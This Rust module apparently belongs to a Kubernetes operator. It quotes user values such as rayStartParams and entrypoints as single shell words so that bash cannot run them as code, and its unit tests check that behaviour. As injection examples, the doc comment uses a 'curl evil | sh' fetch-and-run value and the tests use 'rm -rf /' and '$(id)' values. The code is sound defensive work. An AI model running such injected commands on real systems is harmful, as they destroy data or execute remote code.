//! Quoting of user values placed in the shell commands the operator generates.
//!
//! KubeRay pastes `rayStartParams` values, entrypoints and runtime-environment JSON into a `bash -c` string as they
//! are, so a value such as `1; curl evil | sh` runs as code in every Ray pod. Here every user value becomes one
//! shell word that bash passes through as data. Values that need no quoting (`2`, `0.0.0.0`, `8265`) are written
//! bare, so the common command line reads exactly like KubeRay's, and `$KUBERAY_GEN_RAY_START_CMD` expands to the
//! same words as with KubeRay for such values.

use std::borrow::Cow;

/// A value that cannot be passed through a shell.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ShellError {
    /// The value contains a NUL character, which no process argument can hold.
    #[error("{field}: the value contains a NUL character, which cannot be passed to a command")]
    Nul {
        /// The field holding the value.
        field: String,
    },
    /// A shell command (such as a RayJob entrypoint) has an unterminated quote or a trailing backslash.
    #[error(
        "{field}: {value:?} cannot be split into words: it has an unterminated quote or a trailing backslash"
    )]
    Unbalanced {
        /// The field holding the value.
        field: String,
        /// The value.
        value: String,
    },
}

/// Characters that never mean anything to bash inside a word (after the command name).
fn is_safe(c: char) -> bool {
    c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c)
}

/// Quotes `value` as one shell word, leaving it bare when it consists only of characters that bash never
/// interprets (letters, digits and `_@%+=:,./-`), so `--num-cpus=2` stays as KubeRay writes it. Anything else is
/// wrapped in single quotes, with each `'` written as `'"'"'`: inside single quotes bash interprets nothing, not
/// even newlines.
pub fn quote<'a>(value: &'a str, field: &str) -> Result<Cow<'a, str>, ShellError> {
    if value.contains('\0') {
        return Err(ShellError::Nul {
            field: field.to_string(),
        });
    }
    if !value.is_empty() && value.chars().all(is_safe) {
        return Ok(Cow::Borrowed(value));
    }
    Ok(Cow::Owned(format!("'{}'", value.replace('\'', "'\"'\"'"))))
}

/// Splits a shell command line into words the way bash would, but without any expansion: `$VAR`, `$(...)`,
/// backticks and globs stay literal text, and `;`, `|`, `&&` are ordinary characters of a word.
pub fn split_words(value: &str, field: &str) -> Result<Vec<String>, ShellError> {
    if value.contains('\0') {
        return Err(ShellError::Nul {
            field: field.to_string(),
        });
    }
    shlex::split(value).ok_or_else(|| ShellError::Unbalanced {
        field: field.to_string(),
        value: value.to_string(),
    })
}

/// How a `rayStartParams` value reaches `ray start`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ParamValue {
    /// Passed exactly as this text.
    Literal(String),
    /// Read from the container's environment variable of this name at start-up (the value was exactly `$NAME` or
    /// `${NAME}`, as KubeRay's samples write `redis-password: $REDIS_PASSWORD`). The variable's content is
    /// data: it is expanded inside double quotes and never parsed as code.
    EnvRef(String),
}

fn env_ref(value: &str) -> Option<&str> {
    let name = value
        .strip_prefix("${")
        .and_then(|v| v.strip_suffix('}'))
        .or_else(|| value.strip_prefix('$'))?;
    let mut chars = name.chars();
    let first = chars.next()?;
    ((first.is_ascii_alphabetic() || first == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_'))
    .then_some(name)
}

impl ParamValue {
    /// Interprets a `rayStartParams` value the way KubeRay users write them, without ever running it as code:
    ///
    /// - a value wrapped entirely in one pair of shell quotes (KubeRay's documentation writes
    ///   `resources: '"{\"CPU\": 4}"'`) is unwrapped once, as bash would, but with no expansion;
    /// - a value that is exactly `$NAME` or `${NAME}` (unquoted or in double quotes) reads that environment
    ///   variable;
    /// - anything else is literal text.
    pub fn parse(value: &str) -> ParamValue {
        let quoted = value.len() >= 2
            && ((value.starts_with('\'') && value.ends_with('\''))
                || (value.starts_with('"') && value.ends_with('"')));
        if quoted
            && let Some(words) = shlex::split(value)
            && let [word] = words.as_slice()
        {
            if value.starts_with('"')
                && let Some(name) = env_ref(word)
            {
                return ParamValue::EnvRef(name.to_string());
            }
            return ParamValue::Literal(word.clone());
        }
        match env_ref(value) {
            Some(name) => ParamValue::EnvRef(name.to_string()),
            None => ParamValue::Literal(value.to_string()),
        }
    }

    /// The text, when the value is literal.
    pub fn literal(&self) -> Option<&str> {
        match self {
            ParamValue::Literal(v) => Some(v),
            ParamValue::EnvRef(_) => None,
        }
    }

    /// Renders `prefix` followed by this value as one shell word: `prefix` and a literal are quoted,
    /// an environment reference becomes `"${NAME}"`.
    pub fn render_word(&self, prefix: &str, field: &str) -> Result<String, ShellError> {
        match self {
            ParamValue::Literal(v) => Ok(quote(&format!("{prefix}{v}"), field)?.into_owned()),
            ParamValue::EnvRef(name) => {
                let prefix = if prefix.is_empty() {
                    String::new()
                } else {
                    quote(prefix, field)?.into_owned()
                };
                Ok(format!("{prefix}\"${{{name}}}\""))
            }
        }
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn safe_values_stay_bare() {
        assert_eq!(quote("0.0.0.0", "f").unwrap(), "0.0.0.0");
        assert_eq!(quote("--num-cpus=2", "f").unwrap(), "--num-cpus=2");
    }

    #[test]
    fn metacharacters_are_quoted() {
        let q = quote("1; rm -rf /", "f").unwrap();
        assert_ne!(q, "1; rm -rf /");
        assert_eq!(split_words(&q, "f").unwrap(), vec!["1; rm -rf /"]);
    }

    #[test]
    fn nul_is_an_error_naming_the_field() {
        let err = quote("a\0b", "spec.x").unwrap_err();
        assert!(err.to_string().starts_with("spec.x:"));
    }

    #[test]
    fn param_values() {
        assert_eq!(
            ParamValue::parse(r#""{\"CPU\": 4}""#),
            ParamValue::Literal(r#"{"CPU": 4}"#.into())
        );
        assert_eq!(
            ParamValue::parse(r#"'{"CPU": 4}'"#),
            ParamValue::Literal(r#"{"CPU": 4}"#.into())
        );
        assert_eq!(
            ParamValue::parse("$REDIS_PASSWORD"),
            ParamValue::EnvRef("REDIS_PASSWORD".into())
        );
        assert_eq!(
            ParamValue::parse("\"${REDIS_PASSWORD}\""),
            ParamValue::EnvRef("REDIS_PASSWORD".into())
        );
        // Single quotes suppress expansion in bash, and here too.
        assert_eq!(ParamValue::parse("'$X'"), ParamValue::Literal("$X".into()));
        assert_eq!(
            ParamValue::parse("$(id)"),
            ParamValue::Literal("$(id)".into())
        );
        assert_eq!(
            ParamValue::parse("\"$(id)\""),
            ParamValue::Literal("$(id)".into())
        );
        assert_eq!(
            ParamValue::parse("'a' 'b'"),
            ParamValue::Literal("'a' 'b'".into())
        );
    }

    #[test]
    fn env_ref_word() {
        let w = ParamValue::EnvRef("P".into())
            .render_word("--redis-password=", "f")
            .unwrap();
        assert_eq!(w, "--redis-password=\"${P}\"");
    }
}
